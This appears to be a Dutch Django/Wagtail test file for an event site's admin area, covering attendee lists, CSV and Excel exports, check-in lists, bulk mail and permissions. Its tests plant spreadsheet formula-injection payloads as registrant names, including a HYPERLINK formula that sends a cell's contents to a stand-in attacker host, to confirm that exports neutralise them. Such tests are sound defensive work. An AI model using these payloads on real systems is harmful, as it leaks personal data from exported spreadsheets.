"""The office in /beheer/: attendees, CSV export, check-in list, mail to all registrants."""

import pytest

from route2020.core.tests.factories import PASSWORD
from route2020.events import services
from route2020.events.models import Registration


@pytest.fixture
def editor_client(client, make_user):
    editor = make_user(role="Redactie")
    assert client.login(username=editor.username, password=PASSWORD)
    return client


@pytest.fixture
def event_with_people(make_event, make_user):
    event = make_event(title="Delen maakt je rijker", capacity=2, sessions=[("Parel", 1, 1, None)])
    session = event.sessions.get()
    anna = make_user(first_name="Anna", last_name="Aalders")
    services.registration_create(event=event, user=anna, sessions=[session])
    services.registration_create(
        event=event, name="=HYPERLINK(1)", email="hacker@example.org", organisation_name="X"
    )
    visitor = Registration.objects.get(email="hacker@example.org")
    services.registration_confirm_email(registration=visitor)
    services.registration_create(event=event, user=make_user(first_name="Wim", last_name="Wacht"))
    gone = services.registration_create(
        event=event, user=make_user(first_name="Weg", last_name="Af")
    )
    services.registration_cancel(registration=gone)
    return event


@pytest.mark.django_db
def test_attendee_list_and_overview(editor_client, event_with_people):
    html = editor_client.get("/beheer/bijeenkomsten/").content.decode()
    assert "Delen maakt je rijker" in html
    response = editor_client.get(f"/beheer/bijeenkomsten/{event_with_people.pk}/")
    html = response.content.decode()
    assert response.status_code == 200
    assert "Anna Aalders" in html and "Wim Wacht" in html and "Op de wachtlijst" in html
    assert "Weg Af" not in html


@pytest.mark.django_db
def test_csv_export_lists_registrants_and_defuses_formulas(editor_client, event_with_people):
    response = editor_client.get(f"/beheer/bijeenkomsten/{event_with_people.pk}/deelnemers.csv")
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    lines = text.strip().splitlines()
    assert lines[0] == "naam;e-mailadres;organisatie;status;sessies;aangemeld op"
    assert any(line.startswith("Anna Aalders;") and ";Parel;" in line for line in lines)
    assert any(line.startswith("'=HYPERLINK(1);") for line in lines)
    assert "Weg Af" not in text
    assert len(lines) == 4


FORMULA_NAME = '=HYPERLINK("https://evil.example/?d="&B2,"klik")'


@pytest.mark.django_db
def test_registrations_export_defuses_formulas_typed_by_a_visitor(
    editor_client, make_event, django_capture_on_commit_callbacks
):
    """Issue 11 finding 4: Wagtail's own export of the registrations viewset."""
    import io

    from django.test import Client
    from openpyxl import load_workbook

    event = make_event(capacity=10)
    visitor = Client()
    data = {"name": FORMULA_NAME, "email": "bezoeker@example.org", "organisation_name": "@SUM(1)"}
    with django_capture_on_commit_callbacks(execute=True):
        visitor.post(event.url + "aanmelden/", data)
    assert Registration.objects.get().name == FORMULA_NAME

    response = editor_client.get("/beheer/registrations/?export=csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    row = next(line for line in text.splitlines() if "bezoeker@example.org" in line)
    assert "'=HYPERLINK(" in row and ",'@SUM(1)," in row
    assert ",=HYPERLINK" not in row and not row.split(",")[1].startswith("=")

    response = editor_client.get("/beheer/registrations/?export=xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    values = [cell for row in sheet.iter_rows(values_only=True) for cell in row]
    assert "'" + FORMULA_NAME in values and "'@SUM(1)" in values
    assert not any(isinstance(value, str) and value.startswith("=") for value in values)


@pytest.mark.django_db
def test_checkin_list_is_printable_and_only_confirmed(editor_client, event_with_people):
    html = editor_client.get(
        f"/beheer/bijeenkomsten/{event_with_people.pk}/aanwezigheidslijst/"
    ).content.decode()
    assert "Aanwezigheidslijst" in html and "Anna Aalders" in html
    assert "Wim Wacht" not in html and "2 deelnemers" in html


@pytest.mark.django_db
def test_mail_to_all_registrants_is_queued_one_per_person(
    editor_client, event_with_people, mailoutbox, django_capture_on_commit_callbacks
):
    url = f"/beheer/bijeenkomsten/{event_with_people.pk}/mail/"
    response = editor_client.post(url, {"subject": "", "body": "Tekst"})
    assert response.status_code == 400
    assert "Dit is een verplicht veld." in response.content.decode()
    mailoutbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        response = editor_client.post(
            url, {"subject": "Routebeschrijving", "body": "Parkeer bij het station."}, follow=True
        )
    assert "3 aangemelde personen" in response.content.decode()
    assert sorted(mail.to[0] for mail in mailoutbox) == sorted(
        Registration.objects.filter(status__in=["confirmed", "waitlisted"]).values_list(
            "email", flat=True
        )
    )
    assert all("Parkeer bij het station." in mail.body for mail in mailoutbox)


@pytest.mark.django_db
def test_members_cannot_see_the_office(client, make_user, event_with_people):
    member = make_user()
    client.login(username=member.username, password=PASSWORD)
    for path in ("", "deelnemers.csv", "aanwezigheidslijst/"):
        response = client.get(f"/beheer/bijeenkomsten/{event_with_people.pk}/{path}")
        assert response.status_code in (302, 403)
        assert b"Anna" not in response.content


@pytest.mark.django_db
def test_office_cannot_add_registrations_past_capacity(editor_client, event_with_people):
    assert editor_client.get("/beheer/registrations/").status_code == 200
    assert editor_client.get("/beheer/registrations/add/").status_code in (302, 403, 404)


@pytest.mark.django_db
def test_editor_edits_event_with_programme_and_finds_attendees(
    editor_client, event_with_people, event_index
):
    response = editor_client.get(f"/beheer/pages/{event_with_people.pk}/edit/")
    html = response.content.decode()
    assert response.status_code == 200
    assert "Programma" in html and "Verslag" in html and "Parel" in html
    html = editor_client.get(f"/beheer/pages/{event_index.pk}/").content.decode()
    assert f"/beheer/bijeenkomsten/{event_with_people.pk}/" in html


def event_form_data(**overrides):
    """What the page editor posts: an event with one session."""
    from wagtail.test.utils.form_data import inline_formset, nested_form_data, streamfield

    data = {
        "title": "Deel-je-rijk-sessie Utrecht",
        "slug": "deel-je-rijk-utrecht",
        "intro": "",
        "event_type": "deel-je-rijk",
        "start": "2027-03-01 10:00",
        "end": "2027-03-01 12:00",
        "venue_name": "Bibliotheek Utrecht",
        "venue_address": "",
        "online_url": "",
        "body": streamfield([]),
        "registration_enabled": "on",
        "audience": "iedereen",
        "capacity": "20",
        "report": streamfield([]),
        "sessions": inline_formset(
            [
                {
                    "title": "Taalhuis",
                    "kind": "deel-je-rijk",
                    "start": "2027-03-01 10:00",
                    "end": "2027-03-01 11:00",
                    "room": "Zaal 1",
                    "presenters": "",
                    "description": "",
                    "capacity": "",
                    "practices": [],
                }
            ]
        ),
        "action-publish": "publish",
    }
    data.update(overrides)
    return nested_form_data(data)


@pytest.mark.django_db
@pytest.mark.usefixtures("without_workflow")  # the office publishes at once here
def test_editor_creates_event_with_session_presenting_a_practice(editor_client, event_index, home):
    from route2020.core.models import ContentPage
    from route2020.core.pages import child
    from route2020.events.models import EventPage

    practice = child(home, ContentPage, "taalhuis", title="Taalhuis")
    response = editor_client.post(
        f"/beheer/pages/add/events/eventpage/{event_index.pk}/", event_form_data()
    )
    assert response.status_code == 302, response.content.decode()[:3000]
    event = EventPage.objects.get(slug="deel-je-rijk-utrecht")
    assert event.live and event.sessions.get().title == "Taalhuis"
    # The choice of presented practices offers practice pages only, not other pages.
    html = editor_client.get(f"/beheer/pages/{event.pk}/edit/").content.decode()
    assert "sessions-0-practices" in html
    assert f'value="{practice.pk}">Taalhuis<' not in html


@pytest.mark.django_db
def test_editor_previews_an_event_with_changed_programme(editor_client, event_with_people):
    url = f"/beheer/pages/{event_with_people.pk}/edit/preview/"
    data = event_form_data(title="Voorvertoning", slug=event_with_people.slug)
    response = editor_client.post(url, data)
    assert response.json()["is_valid"] is True
    response = editor_client.get(url)
    assert response.status_code == 200
    html = response.content.decode()
    assert "Voorvertoning" in html and "Taalhuis" in html


@pytest.mark.django_db
def test_editor_previews_a_new_event(editor_client, event_index):
    url = f"/beheer/pages/add/events/eventpage/{event_index.pk}/preview/"
    response = editor_client.post(url, event_form_data(title="Nieuw"))
    assert response.json()["is_valid"] is True
    response = editor_client.get(url)
    assert response.status_code == 200
    assert "Nieuw" in response.content.decode()


@pytest.mark.django_db
def test_office_corrects_an_address_but_not_to_a_taken_one(editor_client, event_with_people):
    anna = Registration.objects.get(name="Anna Aalders")
    url = f"/beheer/registrations/edit/{anna.pk}/"
    taken = {"name": "Anna Aalders", "email": "HACKER@example.org", "organisation_name": "X"}
    response = editor_client.post(url, taken)
    assert response.status_code == 200
    assert "al aangemeld voor deze bijeenkomst" in response.content.decode()
    anna.refresh_from_db()
    assert anna.email != "hacker@example.org"
    fixed = {"name": "Anna Aalders", "email": "anna@example.org", "organisation_name": "Y"}
    assert editor_client.post(url, fixed).status_code == 302
    anna.refresh_from_db()
    assert anna.email == "anna@example.org" and anna.organisation_name == "Y"
